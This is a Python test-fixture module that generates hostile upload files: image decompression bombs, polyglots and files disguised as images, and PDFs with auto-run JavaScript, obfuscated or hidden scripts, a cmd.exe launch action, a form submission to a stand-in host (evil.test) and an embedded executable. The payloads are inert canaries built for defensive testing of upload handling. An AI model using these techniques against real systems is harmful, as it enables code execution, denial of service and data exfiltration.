"""Files made to do harm, built here: what each is, its bytes, and whether it may be taken at all.

One that may be taken is a picture that hides something; what it hides must not come out again.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.conversations.uploads.pictures import pictures
from tests.knowledge_base.importing.documents import packed, pdf, pdf_of_lines, stream

SCRIPT = b"<script>alert('CANARY')</script>"


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    data: bytes
    hidden: bool = False


def _chunk(kind: bytes, content: bytes) -> bytes:
    whole = kind + content
    return struct.pack(">I", len(content)) + whole + struct.pack(">I", zlib.crc32(whole))


def png(width: int, height: int, pixels: bytes, *chunks: bytes, colour: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + b"".join(chunks)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


def gif(width: int, height: int, *, frames: int = 1) -> bytes:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + frame * frames + b"\x3b"


def zipped(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _page(more: bytes = b"", *objects: bytes, catalogue: bytes = b"") -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] %s >>" % more,
        *objects,
    )


def _object_stream(hidden: bytes) -> bytes:
    """The program stands in a packed stream of objects, where no search for words finds it."""
    inside = zlib.compress(b"10 0 " + hidden)
    head = b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"
    body = _page(b"", stream(inside, head), catalogue=b"/OpenAction 10 0 R")
    start = body.rindex(b"xref\n0")
    places = [0, *(body.index(b"%d 0 obj" % number) for number in range(1, 5))]
    rows = b"".join(struct.pack(">BIH", 1, place, 0) for place in places)
    rows += struct.pack(">BIH", 2, 4, 0) + struct.pack(">BIH", 1, start, 0)
    table = b"/Type /XRef /W [1 4 2] /Root 1 0 R /Size 12 /Index [0 5 10 2] /Filter /FlateDecode"
    xref = stream(zlib.compress(rows), table)
    return body[:start] + b"11 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, start)


def hostile() -> Iterator[Hostile]:
    yield from _bombs()
    yield from _disguised()
    yield from _documents()
    yield from _hiding()


def _bombs() -> Iterator[Hostile]:
    square = zlib.compress(b"\0" * 4)
    yield Hostile("PNG of 4 billion pixels", "a.png", png(65_535, 65_535, square))
    yield Hostile("PNG of 2^31 by 2^31", "a.png", png(2**31 - 1, 2**31 - 1, square))
    yield Hostile("PNG of no size", "a.png", png(0, 0, square))
    yield Hostile("PNG one pixel high, 100 million long", "a.png", png(100_000_000, 1, square))
    yield Hostile("PNG whose data unpack to 256 MiB", "a.png", png(8, 8, packed(256 << 20)))
    text = _chunk(b"zTXt", b"Comment\0\0" + packed(256 << 20))
    yield Hostile("PNG with a comment of 256 MiB", "a.png", png(8, 8, square, text))
    profile = _chunk(b"iCCP", b"p\0\0" + packed(256 << 20))
    yield Hostile("PNG with a profile of 256 MiB", "a.png", png(8, 8, square, profile))
    chunks = (_chunk(b"tEXt", b"k\0v"),) * 300_000
    yield Hostile("PNG of 300,000 comments", "a.png", png(8, 8, square, *chunks))
    yield Hostile("GIF of 4 billion pixels", "a.gif", gif(65_535, 65_535))
    yield Hostile("GIF of no size", "a.gif", gif(0, 0))
    wide = b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x22\0\x02\x11\x01\x03\x11\x01"
    yield Hostile("JPEG of 4 billion pixels", "a.jpg", wide + b"\xff\xd9")
    huge = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + b"\xff\xff\xff" + b"\xff\xff\xff"
    riff = b"RIFF" + struct.pack("<I", len(huge) + 4) + b"WEBP" + huge
    yield Hostile("WebP of 2^48 pixels", "a.webp", riff)


def _disguised() -> Iterator[Hostile]:
    photo = pictures()["photo.jpg"]
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    yield Hostile("SVG with a script", "a.svg", svg)
    yield Hostile("SVG called PNG", "a.png", b"<?xml version='1.0'?>" + svg)
    yield Hostile("HTML called JPEG", "a.jpg", b"<!doctype html>" + SCRIPT)
    yield Hostile("HTML behind the mark of GIF", "a.gif", b"GIF89a" + SCRIPT)
    yield Hostile("HTML behind the mark of JPEG", "a.jpg", b"\xff\xd8\xff\xe0" + SCRIPT * 9)
    yield Hostile("zip called PNG", "a.png", zipped("a.txt", b"x" * 99))
    yield Hostile("zip bomb called JPEG", "a.jpg", zipped("a.txt", b"\0" * (64 << 20)))
    yield Hostile("program of Windows called JPEG", "a.jpg", b"MZ" + bytes(99))
    yield Hostile("program of Linux called PDF", "a.pdf", b"\x7fELF" + bytes(99))
    yield Hostile("PostScript called PDF", "a.pdf", b"%!PS-Adobe-3.0\n(CANARY) run\n")
    yield Hostile("picture of a kind that is not taken", "a.tiff", b"II*\0" + bytes(99))
    yield Hostile("picture of a telephone's kind", "a.heic", b"\0\0\0\x18ftypheic" + bytes(99))
    yield Hostile("nothing at all", "a.jpg", b"")
    yield Hostile("JPEG cut in half", "a.jpg", photo[: len(photo) // 2])
    yield Hostile("PNG cut in half", "a.png", pictures()["noted.png"][:700])
    yield Hostile("only the first bytes of JPEG", "a.jpg", photo[:4])
    noise = bytes((at * 7919) % 251 for at in range(len(photo)))
    yield Hostile("JPEG of noise", "a.jpg", photo[:200] + noise)


def _documents() -> Iterator[Hostile]:
    script = b"<< /S /JavaScript /JS (app.alert\\('CANARY'\\)) >>"
    yield Hostile("PDF that runs a script", "a.pdf", _page(catalogue=b"/OpenAction " + script))
    yield Hostile("PDF with a script on its page", "a.pdf", _page(b"/AA << /O %s >>" % script))
    named = b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"
    yield Hostile("PDF with a named script", "a.pdf", _page(b"", script, catalogue=named))
    hashed = b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"
    yield Hostile("PDF with a script spelt otherwise", "a.pdf", _page(catalogue=hashed))
    yield Hostile("PDF with a script packed away", "a.pdf", _object_stream(script))
    start = b"<< /S /Launch /F (cmd.exe) >>"
    yield Hostile("PDF that starts a program", "a.pdf", _page(catalogue=b"/OpenAction " + start))
    send = b"/Annots [<< /Subtype /Link /A << /S /SubmitForm /F (https://evil.test) >> >>]"
    yield Hostile("PDF that sends a form", "a.pdf", _page(send))
    held = b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"
    yield Hostile("PDF that holds a file", "a.pdf", _page(b"", stream(b"MZ"), catalogue=held))
    form = b"/AcroForm << /XFA 4 0 R >>"
    yield Hostile("PDF with a form of XML", "a.pdf", _page(b"", stream(b"<x/>"), catalogue=form))
    locked = b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P 4 >>"
    yield Hostile("PDF with a password", "a.pdf", pdf(b"<< /Type /Catalog >>", trailer=locked))
    round_ = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>")
    yield Hostile("PDF whose pages go in a circle", "a.pdf", round_)
    deep = b"[" * 200_000 + b"]" * 200_000
    yield Hostile("PDF nested deeply", "a.pdf", _page(b"/X " + deep))
    yield Hostile("PDF without a page", "a.pdf", b"%PDF-1.7\n%%EOF")
    yield Hostile("PDF cut in half", "a.pdf", pdf_of_lines("CANARY" * 99)[:400])


def _hiding() -> Iterator[Hostile]:
    photo = pictures()["photo.jpg"]
    yield Hostile("JPEG and HTML in one", "a.html", photo + SCRIPT, hidden=True)
    yield Hostile("JPEG and zip in one", "a.jar", photo + zipped("CANARY.class", b"x"), hidden=True)
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    yield Hostile("JPEG with a script in it", "a.js", photo[:2] + comment + photo[2:], hidden=True)
    yield Hostile("PNG with a script in it", "a.php", pictures()["noted.png"], hidden=True)
    yield Hostile("GIF with a script in it", "a.gif", pictures()["moving.gif"], hidden=True)
    yield Hostile("WebP with a script in it", "a.webp", pictures()["noted.webp"], hidden=True)
